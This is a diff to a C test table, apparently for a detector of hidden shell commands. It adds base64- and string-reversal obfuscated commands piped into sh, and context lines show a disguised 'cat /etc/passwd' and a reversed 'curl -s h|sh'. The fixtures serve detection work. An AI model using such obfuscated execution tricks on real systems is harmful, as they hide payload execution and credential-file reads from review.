@@ -15,6 +15,23 @@ static const struct hidden good[] = {
 		"-aes-128-cbc -K 00112233445566778899aabbccddeeff -iv 0f -a "
 		"-A|sh" },
 	{ "join", "cat /etc/passwd", "a=c;b=at;c=/etc/pas;d=swd;$a$b $c$d" },
+	/* What is looked for stands for itself. */
+	{ "base64", "id -un",
+		"$(which echo) aWQgLXVu|$(command -v base64) -d|$(command -v "
+		"sh)" },
+	{ "base64", "id -un",
+		"`which echo` aWQgLXVu|\"`type -P base64`\" -d|`type -p sh`" },
+	{ "base64", "id -un",
+		"b=$(/usr/bin/which \"base\"64 2>/dev/null);$(which sudo) "
+		"`which echo` aWQgLXVu|$b -d|sh" },
+	{ "reverse", "id;ls",
+		"x=rev;echo 'sl;di'|$(command -v $x)|$(type -p bash)" },
+	{ "reverse", "id;ls",
+		"if [ -z \"$(which rev)\" ];then apt install rev;else echo "
+		"'sl;di'|$(which rev)|sh;fi" },
+	{ "reverse", "id;ls",
+		"if [ \"`which curl`\" ];then curl x;else y='sl;di';rev "
+		"<<<$y|sh;fi" },
 	/* Programs as filters. */
 	{ "reverse", "curl -s h|sh",
 		"echo 'hs|h s- lruc'|awk '{for(i=length($0);i;i--)"
@@ -213,6 +230,12 @@ static const struct hidden good[] = {
 /* Text that is reshaped and given to no interpreter, and what nobody knows. */
 static const char *const not [] = { "t=curl; $t -o /tmp/x$t h",
 	"for t in curl wget; do $t --version; done",
+	/* What is looked for is not hidden. */
+	"$(which python3) -c 'print(1)'|$(command -v grep) 1",
+	"exec \"$(command -v bash)\" -c 'make all'",
+	"x=`which curl || which wget`; $x -s http://192.0.2.1/a | tee a",
+	"for x in $(which -a python python3); do $x -V; done",
+	"command -p rev <<<\"$(which sh)\"",
 	/* What is not known of a filter's output. */
 	"echo 'w;di'|awk '/zz/{for(i=length($0);i;i--)printf "
 	"\"%s\",substr($0,i,1)}'|sh",
